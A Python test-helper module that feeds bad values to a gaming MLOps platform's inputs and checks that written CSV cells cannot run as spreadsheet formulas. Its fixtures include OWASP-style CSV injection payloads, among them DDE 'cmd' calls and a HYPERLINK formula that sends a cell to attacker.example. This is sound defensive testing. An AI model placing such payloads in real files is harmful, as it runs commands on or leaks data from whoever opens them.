"""Helpers of the bad-input tests: one catalogue of bad values that every entry point gets, files
of players with those values in known rows, the check that no written CSV cell is a formula a
spreadsheet would run, a small production model on a real MLflow server, the CLI as a process."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import uuid
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
from threadpoolctl import threadpool_limits

from machine_learning import jobs, registry, simulator
from machine_learning.schema import ID_COLUMN, TARGET_COLUMN
from machine_learning.storage import read_csv_bytes
from machine_learning.validation import REASON_COLUMN, ROW_COLUMN

GAMING_MLOPS = str(Path(sys.executable).parent / "gaming-mlops")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# CSV injection payloads (OWASP's examples): a spreadsheet opening a CSV runs a cell so started.
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "\t=cmd|' /C calc'!A0",
)


@dataclass(frozen=True)
class BadValue:
    """One bad cell and what its rejection reason must say."""

    column: str
    value: str
    reason: str


# Row-level problems: each is rejected with a reason naming column and problem; the other rows
# of the same input go through. (Duplicate PlayerIDs are added by :func:`players_with_bad_rows`.)
BAD_VALUES: tuple[BadValue, ...] = (
    BadValue("Age", "-3", "Age: -3 is below the minimum 0"),
    BadValue("PlayTimeHours", "25", "PlayTimeHours: 25 is above the maximum 24"),
    BadValue("Age", "thirty", "Age: not a number ('thirty')"),
    BadValue("SessionsPerWeek", "2.5", "SessionsPerWeek: not a whole number (2.5)"),
    BadValue("PlayerLevel", "1e400", "PlayerLevel: 1e400 is above the maximum 10000"),
    BadValue("Location", "Mars", "Location: unknown category 'Mars'"),
    BadValue("PlayerID", "99999999999999999999", "PlayerID: 99999999999999999999 is above"),
    BadValue("PlayerID", "-7", "PlayerID: not a non-negative whole number ('-7')"),
    *(  # (ingested files are stored neutralised: the reason may show a leading quote)
        BadValue(column, payload, f"{column}: unknown category '")
        for column, payload in zip(
            ("Gender", "GameGenre", "GameDifficulty", "InGamePurchases", "Location", "Gender"),
            INJECTIONS,
        )
    ),
)
LABEL_INJECTION = BadValue(TARGET_COLUMN, INJECTIONS[0], f"{TARGET_COLUMN}: unknown level '")


@dataclass(frozen=True)
class BadFile:
    """Players as text with bad values in known rows (1-based, like ``source_row``)."""

    frame: pd.DataFrame
    reasons: dict[int, tuple[str, ...]]  # source row -> fragments its reason must contain

    @property
    def valid_ids(self) -> list[str]:
        """PlayerIDs of the rows that must go through, in order."""
        rows = [r for r in range(1, len(self.frame) + 1) if r not in self.reasons]
        return self.frame[ID_COLUMN].iloc[[r - 1 for r in rows]].tolist()

    def write(self, path: Path) -> Path:
        """Write it as a CSV file (the injection payloads as they are: this is the attack)."""
        path.write_text(self.frame.to_csv(index=False), encoding="utf-8")
        return path


def players_with_bad_rows(rows: int = 60, labelled: bool = False, seed: int = 5) -> BadFile:
    """``rows`` players (text) where every bad value of the catalogue is in its own row, plus a
    duplicated PlayerID (and an injection in the label when ``labelled``)."""
    frame = simulator.simulate_players(rows, seed=seed).astype(str)
    if not labelled:
        frame = frame.drop(columns=[TARGET_COLUMN])
    cases = list(BAD_VALUES) + ([LABEL_INJECTION] if labelled else [])
    reasons = {}
    for number, case in enumerate(cases):
        row = 2 * number + 1  # every other row, from the second one
        frame.loc[row, case.column] = case.value
        reasons[row + 1] = (case.reason, case.value.strip()[:20])
    duplicate_row = 2 * len(cases) + 1
    frame.loc[duplicate_row, ID_COLUMN] = frame.loc[0, ID_COLUMN]
    first_id = frame.loc[0, ID_COLUMN]
    reasons[duplicate_row + 1] = (f"{ID_COLUMN}: duplicate of an earlier row ({first_id})",)
    assert duplicate_row < rows - 1, "too few rows for the catalogue"
    return BadFile(frame=frame, reasons=reasons)


def read_text_csv(path: Path) -> pd.DataFrame:
    """A written CSV file, every cell as text."""
    return read_csv_bytes(Path(path).read_bytes(), as_text=True, source=str(path))


def assert_rejects_match(rejected: pd.DataFrame, expected: BadFile) -> None:
    """The rejected rows are exactly the expected ones, each with its reason."""
    rows = [int(row) for row in rejected[ROW_COLUMN]]
    assert rows == sorted(expected.reasons), rows
    for row, reason in zip(rows, rejected[REASON_COLUMN]):
        for fragment in expected.reasons[row]:
            assert fragment in reason, (row, fragment, reason)


def formula_cells(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would run as a formula (plain numbers excepted)."""
    with open(path, newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def register_production(tracking_uri: str, name: str | None = None) -> tuple[str, str]:
    """Train a small model, register it as ``production``; (model name, version)."""
    name = name or f"bad-input-{uuid.uuid4().hex[:8]}"
    prepared = jobs.prepare_players(simulator.simulate_players(2000, seed=11))
    with threadpool_limits(limits=1):
        result, _, _ = jobs.train_model(
            prepared.processed,
            tracking_uri=tracking_uri,
            experiment_name=name,
            model_name=name,
            kind="hist_gradient_boosting",
            params={"max_iter": 40},
            alias=registry.PRODUCTION,
        )
    return name, result.model_version


def platform_env(root: Path, tracking_uri: str, name: str) -> dict[str, str]:
    """Environment of an isolated platform in ``root`` using model ``name``."""
    return {
        "STORAGE": "local",
        "DATA_DIR": str(root / "data"),
        "RUNTIME_DIR": str(root / "runtime"),
        "MAGE_DATA_DIR": str(root / "mage_data"),
        "EVIDENTLY_WORKSPACE": str(root / "evidently"),
        "MLFLOW_TRACKING_URI": tracking_uri,
        "MLFLOW_EXPERIMENT_NAME": name,
        "MODEL_NAME": name,
        "MODEL_KIND": "hist_gradient_boosting",
        "DATA_PATH": "",
        "BATCH_DATA_PATH": "",
        "OMP_NUM_THREADS": "1",
        "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "1",
        "MLFLOW_HTTP_REQUEST_TIMEOUT": "10",
    }


def run_cli(*args: str, env: dict[str, str], timeout: float = 600) -> subprocess.CompletedProcess:
    """`gaming-mlops ARGS` as a process with ``env`` added to ours."""
    return subprocess.run(
        [GAMING_MLOPS, *args],
        capture_output=True,
        text=True,
        env={**os.environ, **env},
        timeout=timeout,
        check=False,
    )


def assert_user_error(
    result: subprocess.CompletedProcess, *fragments: str, after_model: bool = False
) -> str:
    """Exit code 1 and one line on stderr, ``error: ...`` with every fragment; the line.

    ``after_model``: the error comes after the model was downloaded, whose progress bar MLflow
    writes to stderr first; the error is then the last line."""
    assert result.returncode == 1, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr + result.stdout, result.stderr
    lines = result.stderr.strip().splitlines()
    if after_model:
        assert all(line.startswith("Downloading artifacts") for line in lines[:-1]), lines
        lines = lines[-1:]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    for fragment in fragments:
        assert fragment in lines[0], (fragment, lines[0])
    return lines[0]
